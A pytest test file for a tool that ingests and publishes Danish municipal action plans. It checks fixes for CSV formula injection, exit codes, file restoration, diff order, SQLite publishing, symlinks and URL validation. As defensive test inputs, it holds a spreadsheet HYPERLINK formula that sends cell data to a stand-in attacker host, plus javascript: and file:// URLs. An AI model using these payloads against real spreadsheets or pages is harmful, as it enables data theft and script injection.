"""Issue 9, history and outputs: spreadsheet-safe CSVs, one writer per folder, restored files, diff chain order,
a published database complete on its own, symlinks and --base-url, --fail-if-diff on error.

Each test names the finding it covers (issue 9, "What broke", numbers 1, 4, 6, 7, 8, 9).
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from cli import main
from pipeline.ingest import Options, ingest
from pipeline.run import bytes_to_plan
from tests.conftest import SEED
from tests.synthetic import faxe_2024, revision_text
from tests.test_ingest import distribution_files

PLANPIPE = str(Path(sys.executable).with_name("planpipe"))
PLAN = "handleplan-for-faxe-kommunes-biblioteker-borgerservice-2021-2025"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Brætspils aftener")'
DIFF_FILES = ("diff.json", "diff.md", "diff.html")


def invoke(*args: str) -> object:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def query(db: Path, sql: str, *args: object) -> list[tuple]:
    with sqlite3.connect(db) as conn:
        return conn.execute(sql, args).fetchall()


def hostile_seed(tmp_path: Path) -> Path:
    """The seed with formula-like text in a title, a description, a status and a plan cell."""
    lines = SEED.read_text(encoding="utf-8").split("\n")
    [n] = [i for i, line in enumerate(lines) if line.startswith("<b>Brætspils aftener</b>\t")]
    cells = lines[n].split("\t")
    cells[0] = f"<b>{HYPERLINK}</b>"
    cells[1:5] = ["+45 12 34 56 78 " + cells[1], "@SUM(1+1) " + cells[2], "-1+2 " + cells[3], cells[4]]
    lines[n] = "\t".join(cells)
    text = "\n".join(lines)
    path = tmp_path / "hostile" / "faxe-handleplan-2023.txt"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def read_csv(data: bytes, delimiter: str = ",") -> list[dict]:
    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


# Finding 1: formula injection.


def test_formula_like_text_is_neutralised_in_excel_csvs_kept_in_data_csvs_and_warned(tmp_path: Path) -> None:
    source = hostile_seed(tmp_path)
    out = tmp_path / "out"
    [result] = ingest([source], out, Options(excel_dk=True))
    assert result.status == "added", result.error
    folder = result.folder
    exact = {r["id"]: r for r in read_csv((folder / "projects.csv").read_bytes())}
    excel = {r["id"]: r for r in read_csv((folder / "projects.excel-dk.csv").read_bytes(), ";")}
    [key] = [k for k, r in exact.items() if r["title"] == HYPERLINK]
    assert exact[key]["description"].startswith("+45 12 34 56 78")
    assert exact[key]["status_text"].startswith("@SUM(1+1)")
    assert exact[key]["plan_2024"].startswith("-1+2")
    assert excel[key]["title"] == "'" + HYPERLINK
    assert excel[key]["description"].startswith("'+45 12 34 56 78")
    assert excel[key]["status_text"].startswith("'@SUM(1+1)")
    assert excel[key]["plan_2024"].startswith("'-1+2")
    # Only the four cells changed: every other cell of the Excel copy is the exact one.
    for k, row in exact.items():
        for column, value in row.items():
            if excel[k][column] != value:
                assert (k, column) in {(key, c) for c in ("title", "description", "status_text", "plan_2024")}
    plan = json.loads((folder / "plan.json").read_text(encoding="utf-8"))
    flagged = {w["pointer"] for w in plan["warnings"] if w["code"] == "formula-like-text"}
    assert flagged == {
        "/pillars/0/projects/1/title",
        "/pillars/0/projects/1/description",
        "/pillars/0/projects/1/status/text",
        "/pillars/0/projects/1/plans/2024",
    }
    assert plan["pillars"][0]["projects"][1]["title"] == HYPERLINK


def test_the_diff_csv_neutralises_formula_like_cells(tmp_path: Path) -> None:
    hostile = hostile_seed(tmp_path)
    out = tmp_path / "diff.csv"
    result = invoke("diff", str(SEED), str(hostile), "--format", "csv", "-o", str(out))
    assert result.exit_code == 0
    rows = read_csv(out.read_bytes())
    titles = [r["new"] for r in rows if r["field"] == "title"]
    assert "'" + HYPERLINK in titles
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values() if cell)
    # The JSON diff keeps the text exactly.
    as_json = invoke("diff", str(SEED), str(hostile))
    assert HYPERLINK.replace('"', '\\"') in as_json.stdout


def test_validate_warns_of_formula_like_text_in_a_hand_edited_plan(tmp_path: Path) -> None:
    plan = bytes_to_plan(SEED.read_bytes(), SEED.name)
    plan["pillars"][1]["objectives"][0]["text"] = "\tTAB first"
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(plan, ensure_ascii=False), encoding="utf-8")
    result = invoke("validate", str(path))
    assert result.exit_code == 0
    # validate lists its findings as a table on stdout: kind, code, pointer, message.
    assert ["warning", "formula-like-text", "/pillars/1/objectives/0/text"] in [
        line.split()[:3] for line in result.stdout.splitlines()
    ]


# Finding 4: diff --fail-if-diff exits 1 when it crashed.


def test_fail_if_diff_exits_2_on_any_error(tmp_path: Path) -> None:
    missing = invoke("diff", str(SEED), str(tmp_path / "nope.txt"), "--fail-if-diff")
    assert missing.exit_code == 2 and missing.stderr.startswith(f"Error: {tmp_path / 'nope.txt'}: ")
    blocked = tmp_path / "file"
    blocked.write_text("x")
    unwritable = invoke("diff", str(SEED), str(SEED), "--fail-if-diff", "-o", str(blocked / "diff.json"))
    assert unwritable.exit_code == 2 and unwritable.stderr.startswith("Error: ")
    # A crash that is no PipelineError (a nesting deeper than Python's recursion) is an error too, not "different".
    deep = tmp_path / "deep.json"
    deep.write_text("{" + '"a":[' * 100_000 + "]" * 100_000 + "}")
    crashed = subprocess.run(
        [PLANPIPE, "diff", str(SEED), str(deep), "--fail-if-diff"], capture_output=True, text=True, timeout=120
    )
    assert crashed.returncode == 2, crashed.stderr
    assert crashed.stderr.startswith("Error: ") and len(crashed.stderr.splitlines()) == 1
    same = invoke("diff", str(SEED), str(SEED), "--fail-if-diff", "-o", str(tmp_path / "d.json"))
    assert same.exit_code == 0


# Finding 6: extract deletes what run stored; run says "unchanged" and never restores; index links missing files.


def test_extract_refuses_a_folder_that_holds_a_history(tmp_path: Path) -> None:
    out = tmp_path / "out"
    ingest([SEED], out)
    before = {p: p.read_bytes() for p in (out / PLAN / "2023").iterdir()}
    result = invoke("extract", str(SEED), "-o", str(out))
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: {out}: holds the revision history of planpipe run/ingest")
    assert len(result.stderr.splitlines()) == 1
    assert {p: p.read_bytes() for p in (out / PLAN / "2023").iterdir()} == before
    elsewhere = invoke("extract", str(SEED), "-o", str(tmp_path / "mine"))
    assert elsewhere.exit_code == 0 and (tmp_path / "mine" / PLAN / "2023" / "plan.json").is_file()


def test_run_restores_missing_and_altered_files_and_the_index_links_only_what_exists(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    shutil.copy(SEED, inputs / "faxe-handleplan-2023.txt")
    (inputs / "faxe-handleplan-2024.txt").write_text(faxe_2024(SEED.read_text(encoding="utf-8")), encoding="utf-8")
    out = tmp_path / "out"
    assert invoke("run", str(inputs), "-o", str(out)).exit_code == 0
    stored = {p: p.read_bytes() for p in sorted(out.glob(f"{PLAN}/*/*"))}
    # What extract used to do: plan.json and the CSVs rewritten, everything else of the revision gone.
    folder = out / PLAN / "2024"
    for name in (*DIFF_FILES, "datapackage.json", "ckan_package.json", "dcat.jsonld"):
        (folder / name).unlink()
    (folder / "plan.json").write_text((folder / "plan.json").read_text(encoding="utf-8").replace("2024", "2O24"))
    (out / PLAN / "2023" / "projects.csv").unlink()
    result = invoke("run", str(inputs), "-o", str(out))
    assert result.exit_code == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[:2] == [
        f"{PLAN}/2023: uændret (samme bytes som {inputs / 'faxe-handleplan-2023.txt'})",
        f"{PLAN}/2024: uændret (samme bytes som {inputs / 'faxe-handleplan-2024.txt'})",
    ]
    assert lines[2] == f"{PLAN}/2023: genskabte projects.csv"
    assert lines[3].startswith(f"{PLAN}/2024: genskabte ") and "plan.json" in lines[3] and "diff.html" in lines[3]
    assert {p: p.read_bytes() for p in sorted(out.glob(f"{PLAN}/*/*"))} == stored
    # Without its source among the inputs, a lost plan.json is an error; the rest is still restored from it.
    (folder / "plan.json").unlink()
    (out / PLAN / "2023" / "diff.md").write_text("not stored here")  # planpipe's, the record does not know it
    (out / PLAN / "2023" / "notes.txt").write_text("someone's own file")  # not planpipe's: it stays
    (out / PLAN / "2023" / "pillars.csv").unlink()
    other = tmp_path / "other"
    other.mkdir()
    shutil.copy(SEED, other / "seed.txt")
    partial = invoke("run", str(other), "-o", str(out))
    assert partial.exit_code == 1
    assert f"{PLAN}/2023: genskabte pillars.csv; fjernede diff.md (hører ikke til)" in partial.stdout
    assert (out / PLAN / "2023" / "notes.txt").exists() and not (out / PLAN / "2023" / "diff.md").exists()
    assert partial.stderr.startswith(f"Error: {folder}: plan.json missing or altered; plan.json can be made again")
    index = (out / "index.html").read_text(encoding="utf-8")
    links = re.findall(r'href="([^"]+)"', index)
    assert f"{PLAN}/2024/plan.json" not in links
    assert all((out / link).exists() for link in links), [link for link in links if not (out / link).exists()]


# Finding 7: the diff chain depends on arrival order.


@pytest.mark.parametrize("order", [(2, 0, 1), (1, 2, 0), (2, 1, 0)], ids=["2025-2023-2024", "2024-2025-2023", "desc"])
def test_the_diff_chain_follows_revision_order_whatever_the_arrival_order(tmp_path: Path, order: tuple) -> None:
    files = []
    for r in range(3):
        path = tmp_path / "in" / f"rev{r}.txt"
        path.parent.mkdir(exist_ok=True)
        path.write_text(revision_text(7, r), encoding="utf-8")
        files.append(path)
    in_order, shuffled = tmp_path / "ordered", tmp_path / "shuffled"
    ingest(files, in_order)
    for r in order:
        [result] = ingest([files[r]], shuffled)
        assert result.status == "added", result.error
    rows = "select id, previous_revision_id, added_count, removed_count, changed_count, unchanged_count, files "
    chain = rows + "from revisions order by id"
    expected, got = query(in_order / "plans.sqlite", chain), query(shuffled / "plans.sqlite", chain)
    assert [r[:6] for r in got] == [r[:6] for r in expected]
    assert [r[1].rsplit("/", 1)[1] if r[1] else None for r in got] == [None, "2023", "2024"]
    changes = "select key, revision_id, previous_revision_id, change, project_key, old_project_key, fields from changes"
    assert sorted(query(shuffled / "plans.sqlite", changes)) == sorted(query(in_order / "plans.sqlite", changes))
    plan_dir = next(p for p in shuffled.iterdir() if p.is_dir())
    for label in ("2023", "2024", "2025"):
        a, b = in_order / plan_dir.name / label, plan_dir / label
        assert sorted(p.name for p in a.iterdir()) == sorted(p.name for p in b.iterdir())
        for name in DIFF_FILES:
            assert (a / name).exists() == (b / name).exists() == (label != "2023")
            if label != "2023":
                assert json.loads((a / "diff.json").read_bytes()) == json.loads((b / "diff.json").read_bytes())
        dcat = json.loads((b / "dcat.jsonld").read_text(encoding="utf-8"))
        assert distribution_files(dcat) == {p.name for p in b.iterdir()} - {"dcat.jsonld"}
    # The record run checks against is the files as they now stand.
    assert invoke("run", *map(str, files), "-o", str(shuffled)).stdout.count("genskabte") == 0


# Finding 8: plans.sqlite is published in WAL mode and misses recent revisions.


def test_the_published_database_is_complete_on_its_own_while_a_reader_holds_it(tmp_path: Path) -> None:
    out = tmp_path / "out"
    ingest([SEED], out)
    reader = sqlite3.connect(out / "plans.sqlite")
    reader.execute("begin")
    assert reader.execute("select count(*) from revisions").fetchone() == (1,)
    second = tmp_path / "faxe-2024.txt"
    second.write_text(faxe_2024(SEED.read_text(encoding="utf-8")), encoding="utf-8")
    [result] = ingest([second], out)  # the reader's open transaction does not stop it
    reader.rollback()
    reader.close()
    assert result.status == "added"
    download = tmp_path / "download.sqlite"
    download.write_bytes((out / "plans.sqlite").read_bytes())  # the file alone, as index.html offers it
    assert not (tmp_path / "download.sqlite-wal").exists()
    assert query(download, "pragma journal_mode") == [("delete",)]
    assert query(download, "select id from revisions order by id") == [(f"{PLAN}/2023",), (f"{PLAN}/2024",)]
    assert query(download, "select count(*) from changes")[0][0] > 0
    assert not list(out.glob("plans.sqlite-*"))


def test_a_store_from_before_the_live_database_is_taken_over(tmp_path: Path) -> None:
    out = tmp_path / "out"
    ingest([SEED], out)
    (out / ".planpipe.sqlite").unlink()  # what an older planpipe left: plans.sqlite, the live database in WAL
    second = tmp_path / "faxe-2024.txt"
    second.write_text(faxe_2024(SEED.read_text(encoding="utf-8")), encoding="utf-8")
    [result] = ingest([second], out)
    assert (result.status, result.previous_revision_id) == ("added", f"{PLAN}/2023")
    assert len(query(out / "plans.sqlite", "select id from revisions")) == 2


# Finding 9: symlinks followed out of an input folder; --base-url javascript: accepted.


def test_symlinks_in_an_input_folder_are_not_followed_unless_asked(tmp_path: Path) -> None:
    secret = tmp_path / "elsewhere" / "secret.txt"
    secret.parent.mkdir()
    shutil.copy(SEED, secret)
    inputs = tmp_path / "in"
    inputs.mkdir()
    (inputs / "plan.txt").symlink_to(secret)
    out = tmp_path / "out"
    result = invoke("run", str(inputs), "-o", str(out))
    assert result.exit_code == 1
    assert f"skipped: {inputs / 'plan.txt'}: a symbolic link (--follow-symlinks to read it)" in result.stderr
    assert result.stderr.rstrip().endswith(f"Error: {inputs}: no plan files found")
    assert not (out / PLAN).exists()
    followed = invoke("ingest", str(inputs), "-o", str(out), "--follow-symlinks")
    assert followed.exit_code == 0 and followed.stdout.startswith(f"{PLAN} 2023: ")


@pytest.mark.parametrize("url", ["javascript:alert(1)//", "file:///etc/", "ftp://example.org/", "//example.org/", "x"])
def test_base_url_must_be_http(tmp_path: Path, url: str) -> None:
    result = invoke("ingest", str(SEED), "-o", str(tmp_path / "out"), "--base-url", url)
    assert result.exit_code == 2
    assert "is not an http:// or https:// URL" in result.stderr
    assert not (tmp_path / "out").exists()


def test_an_https_base_url_makes_the_links_absolute(tmp_path: Path) -> None:
    result = invoke("ingest", str(SEED), "-o", str(tmp_path / "out"), "--base-url", "https://data.example.dk/plans/")
    assert result.exit_code == 0
    ckan = json.loads((tmp_path / "out" / PLAN / "2023" / "ckan_package.json").read_text(encoding="utf-8"))
    assert ckan["resources"][0]["url"].startswith(f"https://data.example.dk/plans/{PLAN}/2023/")


def test_a_published_database_left_behind_or_damaged_is_published_again(tmp_path: Path) -> None:
    out = tmp_path / "out"
    ingest([SEED], out)
    left_behind = (out / "plans.sqlite").read_bytes()
    second = tmp_path / "faxe-2024.txt"
    second.write_text(faxe_2024(SEED.read_text(encoding="utf-8")), encoding="utf-8")
    ingest([second], out)
    (out / "plans.sqlite").write_bytes(left_behind)  # as if the ingest was killed after its commit
    assert [r.status for r in ingest([SEED, second], out)] == ["unchanged", "unchanged"]
    assert len(query(out / "plans.sqlite", "select id from revisions")) == 2
    (out / "plans.sqlite").write_bytes(b"SQLite format 3\x00" + bytes(4000))
    ingest([SEED], out)
    assert len(query(out / "plans.sqlite", "select id from revisions")) == 2
    index = (out / "index.html").stat().st_mtime_ns
    ingest([SEED], out)  # nothing to publish: nothing rewritten
    assert (out / "index.html").stat().st_mtime_ns == index


def test_a_crash_while_re_diffing_the_revision_after_leaves_a_history_run_repairs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import pipeline.ingest

    files = []
    for r in range(2):
        path = tmp_path / "in" / f"rev{r}.txt"
        path.parent.mkdir(exist_ok=True)
        path.write_text(revision_text(3, r), encoding="utf-8")
        files.append(path)
    out = tmp_path / "out"
    [later] = ingest([files[1]], out)
    stored = {p.name: p.read_bytes() for p in later.folder.iterdir()}
    real = pipeline.ingest.replace_dir
    moved = []

    def replace_then_die(complete: Path, target: Path) -> None:
        real(complete, target)
        moved.append(target)
        if len(moved) == 2:  # both folders moved in, the transaction not yet committed: the process dies
            raise RuntimeError("killed")

    monkeypatch.setattr(pipeline.ingest, "replace_dir", replace_then_die)
    with pytest.raises(RuntimeError):
        ingest([files[0]], out)
    monkeypatch.undo()
    assert moved[1] == later.folder and (later.folder / "diff.json").exists()  # the files ran ahead of the database
    assert query(out / ".planpipe.sqlite", "select count(*) from revisions") == [(1,)]
    repaired = invoke("run", str(files[1]), "-o", str(out))
    assert repaired.exit_code == 0 and ": genskabte " in repaired.stdout
    assert {p.name: p.read_bytes() for p in later.folder.iterdir()} == stored  # back to what the database says
    [earlier] = ingest([files[0]], out)
    assert earlier.status == "added"
    assert query(
        out / "plans.sqlite", "select previous_revision_id from revisions where id = ?", later.revision_id
    ) == [(earlier.revision_id,)]
    assert (later.folder / "diff.json").exists()
